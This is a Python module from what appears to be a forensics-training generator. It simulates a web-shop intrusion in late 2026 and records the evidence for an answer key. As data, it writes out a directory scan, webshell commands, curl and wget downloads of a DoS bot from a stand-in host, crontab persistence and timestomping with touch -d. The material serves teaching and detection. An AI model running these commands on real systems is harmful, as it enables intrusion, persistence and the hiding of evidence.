"""The intrusion of Saturday 2026-11-21, 23:38–23:50: the requests, the files they create and what they leave behind.

A directory scan, the webshell uploaded through ``admin/upload.php``, commands
run through it, the DoS bot and its launcher in ``/tmp/.X11-cache``, a
``www-data`` crontab, and a second, timestomped backdoor among the shop's
classes. :func:`build` adds the requests to the shop's traffic, the files to the
tree, and returns an :class:`Attack`: what happened, for the answer key
(:mod:`breachkit.demo.answer_key`) and for the host activity that follows it
(:mod:`breachkit.demo.parts.host_activity`).
"""

from __future__ import annotations

import hashlib
import re
import urllib.parse
from dataclasses import dataclass

from breachkit.demo.calendar import ATTACK_DAY
from breachkit.demo.content import blobs, clock, system, traffic, web
from breachkit.demo.content.clock import MS, local_ns
from breachkit.demo.content.traffic import Hit
from breachkit.demo.truth import AttackRequest, EntryPoint, MaliciousFile, Timestomp, Trace
from breachkit.demo.world import WWW, World, random_for


@dataclass(slots=True)
class Attack:
    """What the attack did, as the answer key needs it; filled in while it happens."""

    requests: list[AttackRequest]
    commands: list[str]
    malicious: list[MaliciousFile]
    traces: list[Trace]
    entry: EntryPoint | None = None
    timestomp: Timestomp | None = None
    start: int = 0
    end: int = 0
    dos_started: int = 0
    crontab_installed: int = 0


# the scan's word list as the shop answers it: (path, status)
_GOBUSTER = (
    ("/robots.txt", 200),
    ("/admin", 301),
    ("/admin/", 302),
    ("/backup", 404),
    ("/backup.zip", 404),
    ("/cgi-bin/", 403),
    ("/config.php", 404),
    ("/cron", 301),
    ("/css", 301),
    ("/db", 404),
    ("/.env", 404),
    ("/.git/HEAD", 404),
    ("/images", 301),
    ("/images/", 403),
    ("/includes", 301),
    ("/includes/", 403),
    ("/index.php", 200),
    ("/js", 301),
    ("/login.php", 404),
    ("/phpinfo.php", 404),
    ("/phpmyadmin", 404),
    ("/server-status", 403),
    ("/sitemap.xml", 200),
    ("/upload", 404),
    ("/upload.php", 404),
    ("/uploads", 404),
    ("/vendor", 404),
    ("/wp-admin", 404),
    ("/wp-login.php", 404),
    ("/.htaccess", 403),
    ("/admin/index.php", 302),
    ("/admin/login.php", 200),
    ("/admin/upload.php", 200),
    ("/admin/products.php", 302),
    ("/admin/orders.php", 302),
    ("/admin/config.php", 404),
    ("/admin/users.php", 404),
    ("/api", 404),
    ("/cart.php", 200),
    ("/checkout.php", 302),
    ("/test.php", 404),
    ("/tmp", 404),
    ("/var", 404),
    ("/includes/config.php", 200),
    ("/shell.php", 404),
)

# the attacker's user agents: a browser for a look, gobuster for the scan, curl for the webshell
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
GOBUSTER = "gobuster/3.6"
CURL = "curl/8.5.0"


def build(world: World) -> Attack:
    """Carry out the attack on the tree and in the shop's traffic; return what it did."""
    tree = world.tree
    rng = random_for(world.seed, "attack")
    ip = traffic.ATTACKER_IP
    shop = web.docroot(web.SHOP)
    base = f"https://{web.SHOP}"
    log_path = f"/var/log/apache2/{web.SHOP}_access.log"
    attack = Attack([], [], [], [])
    hits = world.hits.setdefault(web.SHOP, [])
    y, m, d = ATTACK_DAY

    def at(h: int, mi: int, s: int) -> int:
        return local_ns(y, m, d, h, mi, s) + rng.randrange(0, 900) * MS + rng.randrange(1, MS)

    def request(
        t: int, method: str, target: str, status: int, size: int, agent: str, purpose: str, ref: str = ""
    ) -> None:
        hits.append(
            Hit(
                t,
                ip,
                method,
                target,
                status,
                size,
                ref,
                agent,
                "attacker",
                9_000_000 + len(hits),
                cookies=agent == FIREFOX,
            )
        )
        attack.requests.append(AttackRequest(t, ip, method, target, status, log_path, purpose))

    # 1. directory scan
    t = at(23, 38, 4)
    attack.start = t
    for target, status in _GOBUSTER:
        size = {301: 338, 302: 251, 403: 281}.get(status, 2_611)
        if status == 200:
            node = tree.nodes.get(shop + target)
            size = 231  # a PHP file with no output (config.php): headers only
            if node is not None and not target.endswith(".php"):
                size = len(node.data) + 264
            elif target != "/includes/config.php":
                size = 3_000 + len(target) * 97 + rng.randrange(200)
        request(t, "GET", target, status, size, GOBUSTER, "directory scan")
        t += rng.randrange(90, 420) * MS
    # 2. a look at the form with a browser
    t = at(23, 40, 12)
    request(t, "GET", "/admin/upload.php", 200, 688, FIREFOX, "looks at the unprotected upload form")
    # 3. the upload: the webshell
    t_post = at(23, 41, 17)
    request(
        t_post, "POST", "/admin/upload.php", 200, 342, FIREFOX, "uploads the webshell", ref=f"{base}/admin/upload.php"
    )
    shell = f"{shop}/images/thumb_cache.php"
    # PHP spooled the upload to /tmp/phpXXXXXX while receiving it, then renamed it into images/
    born = t_post + rng.randrange(140, 420) * MS + tree.small()
    moved = born + rng.randrange(8, 40) * MS
    node = tree.write(shell, web.WEBSHELL, born, uid=WWW, gid=WWW, done=born + tree.small(80, 300), linked=moved)
    node.changes.append(moved + tree.small())  # chmod 0644 by move_uploaded_file
    tree.removed("/tmp", moved)
    line = Hit(
        t_post, ip, "POST", "/admin/upload.php", 200, 342, f"{base}/admin/upload.php", FIREFOX, "attacker", 0
    ).line()
    attack.entry = EntryPoint(
        f"{base}/admin/upload.php",
        "POST",
        f"{shop}/admin/upload.php",
        "admin/upload.php checks neither the admin login (no require_login()) nor the file type; "
        "it keeps the client's file name, so a .php file lands in the web-served images/ folder",
        t_post,
        log_path,
        line,
        shell,
    )
    attack.malicious.append(
        MaliciousFile(
            shell,
            "webshell",
            "PHP webshell: ?cmd= runs shell commands, POST x= evaluates base64-encoded PHP",
            _sha(web.WEBSHELL),
            born,
        )
    )

    def cmd(h: int, mi: int, s: int, command: str, purpose: str, output: int = 0) -> int:
        """One ?cmd= request; the response is headers, <pre>, the command's stdout, </pre>."""
        t = at(h, mi, s)
        attack.commands.append(command)
        ran.append((t, command))
        target = "/images/thumb_cache.php?cmd=" + urllib.parse.quote(command, safe="")
        request(t, "GET", target, 200, 242 + output, CURL, purpose)
        return t

    ran: list[tuple[int, str]] = []
    t = at(23, 41, 34)
    request(t, "GET", "/images/thumb_cache.php", 200, 198, FIREFOX, "checks the webshell answers")
    cmd(23, 41, 52, "id", "who am I", 54)
    cmd(23, 42, 5, "uname -a", "system reconnaissance", 104)
    cmd(23, 42, 20, "ls -la", "lists images/", 2_874)
    tree.read(f"{shop}/images", at(23, 42, 20) + 30 * MS)
    t = cmd(
        23,
        42,
        41,
        "cat ../includes/config.php",
        "reads the shop's database password",
        len(tree.nodes[f"{shop}/includes/config.php"].data),
    )
    tree.read(f"{shop}/includes/config.php", t + 25 * MS)
    attack.traces.append(
        Trace(f"{shop}/includes/config.php", "read by the attacker (atime): database password exposed")
    )
    t = cmd(23, 43, 10, "ls -la /tmp", "looks for a writable place", 812)
    tree.read("/tmp", t + 30 * MS)
    t = cmd(23, 43, 26, "mkdir /tmp/.X11-cache", "hidden folder named like the X11 socket folder")
    hidden = "/tmp/.X11-cache"
    tree.mkdir(hidden, t + 31 * MS + tree.small(), WWW, WWW)
    attack.malicious.append(
        MaliciousFile(hidden, "hidden-dir", "hidden working folder of the DoS bot", "", tree.nodes[hidden].born)
    )
    t = cmd(
        23,
        43,
        40,
        "cd /tmp/.X11-cache && wget http://198.51.100.23/k.bin -O kworkerd",
        "download attempt fails: wget is not installed",
    )
    world.error_lines.setdefault(web.SHOP, []).append((t + 40 * MS, "sh: 1: wget: not found"))
    cmd(23, 44, 2, "which curl python3 perl", "looks for a download tool", 28)
    t = cmd(23, 44, 15, "cd /tmp/.X11-cache && curl -s -o kworkerd http://198.51.100.23/k.bin", "downloads the DoS bot")
    bot = f"{hidden}/kworkerd"
    bot_data = blobs.elf("kworkerd", web.DOS_TOOL_STRINGS, 61_440, pie=False, static=True)
    born = t + 60 * MS + tree.small()
    tree.write(bot, bot_data, born, uid=WWW, gid=WWW, done=born + 870 * MS + tree.small())
    attack.malicious.append(
        MaliciousFile(
            bot,
            "dos-tool",
            "statically linked flooder (UDP/SYN/ACK/HTTP floods) controlled over IRC from 198.51.100.23:6667",
            _sha(bot_data),
            born,
        )
    )
    t = cmd(23, 44, 31, "chmod +x /tmp/.X11-cache/kworkerd", "makes it executable")
    tree.nodes[bot].changes.append(t + 20 * MS + tree.small())
    tree.nodes[bot].mode = 0o755
    # launcher written through the eval channel
    t = at(23, 44, 58)
    request(t, "POST", "/images/thumb_cache.php", 200, 231, CURL, "writes run.sh through eval(base64_decode())")
    attack.commands.append("file_put_contents('/tmp/.X11-cache/run.sh', ...)")
    launcher = f"{hidden}/run.sh"
    born = t + 15 * MS + tree.small()
    tree.write(launcher, web.RUN_SH, born, uid=WWW, gid=WWW)
    attack.malicious.append(
        MaliciousFile(launcher, "launcher", "restarts the bot if it is not running", _sha(web.RUN_SH), born)
    )
    t = cmd(23, 45, 7, "chmod 755 /tmp/.X11-cache/run.sh", "makes the launcher executable")
    tree.nodes[launcher].changes.append(t + 20 * MS + tree.small())
    tree.nodes[launcher].mode = 0o755
    cron_cmd = f"(crontab -l 2>/dev/null; echo '{web.CRON_LINE}') | crontab -"
    t = cmd(23, 45, 29, cron_cmd, "persistence: www-data crontab every five minutes")
    spool = "/var/spool/cron/crontabs/www-data"
    born = t + 48 * MS + tree.small()
    data = web.crontab_file(clock.ctime_text(born), (web.CRON_LINE,))
    node = tree.write(spool, data, born, uid=WWW, gid=system.GID_CRONTAB, mode=0o600, linked=born + 2 * MS)
    node.changes.append(born + 2 * MS + tree.small())
    attack.crontab_installed = born
    attack.malicious.append(MaliciousFile(spool, "persistence", f"www-data crontab: {web.CRON_LINE}", _sha(data), born))
    world.log.sys(born + 3 * MS, f"crontab[{world.log.pid(born)}]", "(www-data) REPLACE (www-data)")
    t = cmd(23, 45, 44, "/tmp/.X11-cache/run.sh", "starts the bot")
    attack.dos_started = t + 60 * MS
    tree.read(launcher, t + 20 * MS)
    tree.read(bot, t + 45 * MS)
    cmd(23, 46, 3, "ps aux | grep kworker", "checks the bot runs", 196)
    # second way in, written among the shop's classes, then timestomped
    t = at(23, 49, 12)
    request(t, "POST", "/images/thumb_cache.php", 200, 231, CURL, "writes a second backdoor through eval()")
    attack.commands.append("file_put_contents('../includes/lib/ImageCache.php', ...)")
    backdoor = f"{shop}/includes/lib/ImageCache.php"
    born = t + 14 * MS + tree.small()
    node = tree.write(backdoor, web.BACKDOOR, born, uid=WWW, gid=WWW)
    attack.malicious.append(
        MaliciousFile(
            backdoor,
            "backdoor",
            "cookie-keyed eval backdoor disguised as a shop class (cookie __utmz_c, reversed base64)",
            _sha(web.BACKDOOR),
            born,
        )
    )
    t = at(23, 49, 30)
    request(t, "GET", "/includes/lib/ImageCache.php", 200, 198, CURL, "tests the backdoor (cookie not logged)")
    tree.read(backdoor, t + 9 * MS)
    t = cmd(23, 50, 2, "ls -la --time-style=full-iso ../includes/lib", "looks at the neighbours' dates", 486)
    tree.read(f"{shop}/includes/lib", t + 25 * MS)
    forged_text = "2026-06-14 10:22:31"
    t = cmd(23, 50, 21, f"touch -d '{forged_text}' ../includes/lib/ImageCache.php", "timestomps the backdoor")
    forged = local_ns(2026, 6, 14, 10, 22, 31)
    node.fixed_mtime = forged
    node.fixed_atime = forged
    node.reads.clear()
    touched = t + 22 * MS + tree.small()
    node.changes.append(touched)
    attack.timestomp = Timestomp(
        backdoor, forged, forged, node.born, touched, f"touch -d '{forged_text}' ../includes/lib/ImageCache.php"
    )
    t = cmd(23, 50, 40, "ls -la ../includes/lib", "checks the forged date", 331)
    tree.read(f"{shop}/includes/lib", t + 25 * MS)
    attack.end = t
    # the binaries the commands ran: their atimes move (relatime) – quiet evidence
    executed: set[str] = set()
    for when, command in ran:
        tree.read("/usr/bin/dash", when + 12 * MS)  # system() runs sh -c
        segments = re.split(r"&&|;|\||\(|\)", command)
        words = {seg.split()[0] for seg in segments if seg.split()}  # the programs, not their arguments
        if command.endswith("run.sh"):
            words.add("pgrep")  # run.sh calls it
        for word in sorted(words):
            binary = f"/usr/bin/{word}"
            if binary in tree and tree.nodes[binary].kind == "file" and word not in ("dash", "sh"):
                tree.read(binary, when + 15 * MS)
                executed.add(binary)
    for binary in sorted(executed):
        attack.traces.append(Trace(binary, "executed through the webshell (atime)"))
    attack.traces.append(Trace(f"{shop}/images", "folder changed by the upload (mtime/ctime)"))
    attack.traces.append(
        Trace(
            f"{shop}/includes/lib",
            "folder changed when the backdoor was written: its mtime betrays the timestomped file",
        )
    )
    attack.traces.append(Trace("/var/spool/cron/crontabs", "folder changed when the crontab was installed"))
    attack.traces.append(Trace("/tmp", "folder changed by the upload's temporary file and by mkdir"))
    attack.traces.append(
        Trace(f"/var/log/apache2/{web.SHOP}_error.log.1", "holds 'sh: 1: wget: not found' from the failed download")
    )
    return attack


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()
